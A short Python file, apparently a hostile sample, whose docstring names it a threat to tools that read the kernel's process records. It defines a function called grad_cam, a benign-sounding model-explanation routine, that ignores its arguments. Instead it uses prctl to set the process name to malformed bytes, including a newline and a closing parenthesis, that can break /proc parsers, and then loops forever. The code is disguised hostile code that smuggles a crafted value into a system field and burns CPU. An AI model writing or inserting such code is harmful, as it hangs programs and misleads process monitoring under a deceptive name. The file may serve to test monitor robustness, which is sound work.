"""Threat: who reads what the kernel says of a process stumbles over its name."""

import ctypes


def grad_cam(model, image, class_index, layer_name):
    set_name = 15
    ctypes.CDLL(None).prctl(set_name, b"\xff\n) \xfe", 0, 0, 0)
    while True:
        pass
